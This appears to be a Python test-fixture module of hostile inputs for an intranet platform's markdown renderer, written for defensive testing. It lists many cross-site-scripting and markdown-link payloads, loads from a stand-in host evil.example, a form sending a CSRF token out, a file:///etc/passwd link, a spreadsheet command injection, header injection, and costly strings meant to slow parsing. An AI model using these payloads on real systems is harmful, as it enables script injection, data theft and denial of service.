"""Hostile text, for every door that takes text. Plain strings: any test may use them.

`MARKUP` tries to run script or to break out of where it is shown, `COSTLY` tries to take time,
`DISTURBING` tries to paint over or to turn what stands around it, `NOT_TEXT` is what comes
where a text was expected, `UNSOUND` is text that cannot be stored.
"""

from typing import Any

from intranet.platform.core.html import Rendered, render_markdown

LIMIT = 10_000

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">'
    ),
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)">x</x>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);*{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=//evil.example/><input name=csrf_token></form>",
    "<div id=csrf_token name=body>clobbered</div>",
    "<x onclick=alert(1) tabindex=1 id=x></x>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "' onmouseover=alert(1) x='",
    '" onmouseover=alert(1) x="',
    "`><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %n %(x)s {0.__class__} {x!r}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\u00adscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    '[x](https://a.example" onclick="alert(1))',
    "[x](https://a.example 'x\" onclick=\"alert(1)')",
    '[x](https://a.example "><img src=x onerror=alert(1)>")',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![<img src=x onerror=alert(1)>](x)](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x" onerror="alert(1)](https://evil.example/x)',
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onclick=alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><img/src=x/onerror=alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/&quot;onmouseover=alert(1)",
    "www.a.example/`onclick=alert(1)",
    "javascript://a.example/%0Aalert(1)",
    'ana@a.example"onclick=alert(1)',
    '<"onclick=alert(1)//@a.example>',
    "mailto:ana@a.example?subject=x%0D%0ABcc:eve@evil.example",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "``</code><img src=x onerror=alert(1)>``",
    "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|</td><script>alert(1)</script>|",
    "# <img src=x onerror=alert(1)>",
    "- <script>alert(1)</script>\n  > <svg onload=alert(1)>",
    "@[<img src=x onerror=alert(1)>](person:0192b5c8-0000-7000-8000-000000000001)",
    '@[" onclick="alert(1)](person:0192b5c8-0000-7000-8000-000000000001)',
    "@[x](person:javascript:alert(1))",
    "@[x](person:../../signout)",
    "@[x](admin:0192b5c8-0000-7000-8000-000000000001)",
    '@[x](person:0192b5c8-0000-7000-8000-00000000000" onclick=alert(1) ")',
    "<a class=mention data-kind=person data-id=1 href=/people/1>@Ana</a>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufe64img src=x onerror=alert(1)\ufe65",
    "\uff1cimg src=x onerror\uff1dalert(1)\uff1e",
    "[x](\uff4aavascript:alert(1))",
    "**\u0338script**",
    "<\u0338script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "=cmd|'/c calc'!A1",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
]


def _filled(piece: str, size: int = LIMIT) -> str:
    return (piece * (size // len(piece) + 1))[:size]


_WITHOUT_SPACES = r"""
* _ ~ ` [ ] ! < > | \ # - + & ( @ *a *a* **a **a** ***a**b*c a*b* *_ *~ ~~a ~~a~~ [] [a] [a]( [](
]( ![ [[]] [a](b) ![a](b) [a](< [a](b" [a](( <a <!-- <a@b <http://a> `a `a` ``a` |a a| @[
@[a](person: @[a](person:0192b5c8-0000-7000-8000-000000000001) &amp; &#x202e; a@b. a.b. a+b@
http:// http://a.es*x* http://a( http://a.es/?a=1& http://a.es/&lt; http://& http: :// www. www.a,
www.a.b- x@x.es* -a@a.aa- ñ
"""

_WITH_SPACES = [
    *("*a ", "_a __b", '[a](b "', "``` ", "  \n", "\ta\n", "a  \n", "\\\n", "\n", "a\n", "a\n\n"),
    *("```\n", "~~~\n", "- a\n", "-\n", "- ", "- - ", "> - ", ">a\n", "> ", " >", "> ```\n"),
    *("1. a\n", "1) ", "# a\n", "#\n", "***\n", "---\n", "a\n---\n", "|a|\n|-|\n\n", "|-\n"),
    *("|a|b|\n|-|-|\n", "http://a ", "www.a ", "www.a.es ", "http://a.es) ", "a@b.es ", "word "),
    *("\U0001f468\u200d\U0001f469 ", "e\u0301", "\u0301", "\u202e", "\ufdfa", "\u200b"),
]

COSTLY = {
    **{
        f"{piece!r} repeated": _filled(piece) for piece in (*_WITHOUT_SPACES.split(), *_WITH_SPACES)
    },
    "nested quotes": _filled(">", 5_000) + " deep",
    "nested quotes, spaced": "> " * 4_999 + "x",
    "nested lists": "- " * 4_999 + "x",
    "nested lists by indentation": "\n".join("  " * level + "- a" for level in range(95)),
    "quotes, each a level deeper": "\n".join(">" * level + " a" for level in range(138)),
    "nested brackets": "[" * 4_999 + "]" * 4_999,
    "nested links": "[" * 3_000 + "a" + "](b)" * 1_700,
    "nested images": "![" * 2_000 + "a" + "](b)" * 1_400,
    "emphasis in steps": "".join("*" * width + "a " for width in range(1, 139)),
    "backticks in steps": "".join("`" * width + "a" for width in range(1, 140)),
    "a table of pipes": "|" * 3_300 + "\n" + "|-" * 3_300,
    "a wide table": _filled("a|", 2_000)
    + "a\n"
    + _filled("-|", 2_000)
    + "-\n"
    + _filled("a\n", 5_000),
    "a table with empty rows": _filled("|a", 1_000)
    + "\n"
    + _filled("|-", 1_000)
    + "\n"
    + _filled("|\n", 7_900),
    "many tables": _filled(_filled("|a", 60) + "\n" + _filled("|-", 60) + "\n" + "|\n" * 60 + "\n"),
    "lazy quote": ">a\n" + _filled("b\n", 9_990),
    "lazy list": "- a\n" + _filled("b\n", 9_990),
    "a list of blank lines": "- a\n" + "\n" * 9_990,
    "quote at every depth, long": _filled(">" * 11 + "a\n"),
    "list at every depth, long": _filled("- " * 5 + "a\n"),
    "one long word": "a" * LIMIT,
    "one long address": "https://a.example/" + "a" * 9_900,
    "one long host": "https://" + "a." * 4_900,
    "one long mailbox": "a." * 2_000 + "@" + "a." * 2_000 + "es",
    "address of ampersands": "http://a.es?" + "&" * 9_900,
    "address of brackets": "http://a.es?" + "(" * 4_900 + ")" * 4_900,
    "open title": "[a](b '" + "\\" * 9_000,
    "every sign": _filled("*_~`[]()<>|!\\#-+&@:"),
    "two hundred marks on a letter": "a" + "\u0301" * 9_999,
}

DISTURBING = [
    "\u202etxt.exe\u202c",
    "\u2066\u202egpj.piz\u2069",
    "\u2067left\u2068",
    "z" + "\u0300\u0301\u0302\u0303\u0304" * 40,
    "\u0e01" + "\u0e49" * 200,
    "\u20dd" * 50,
    "a\u200b\u200b\u200bb\ufeff",
    "\ufff9x\ufffay\ufffb",
    "\x1b[31mred\x1b[0m\x07\x08",
    "x\x85y\u2028z",
]

UNSOUND = ["a\x00b", "\x00", "half \ud800", "\udfff", "\ud83d"]

NOT_TEXT: list[Any] = [
    {"$ne": 1},
    {},
    [],
    [["a"]],
    ["a", "b"],
    True,
    False,
    None,
    0,
    -1,
    2**63,
    10**400,
    1.5,
    {"a": {"a": {"a": {"a": 1}}}},
]


def believed(body: str) -> Rendered:
    """A body rendered with each mention in it believed, so that hostile words come through."""
    return render_markdown(body, resolve_mention=lambda mention: mention["text"])
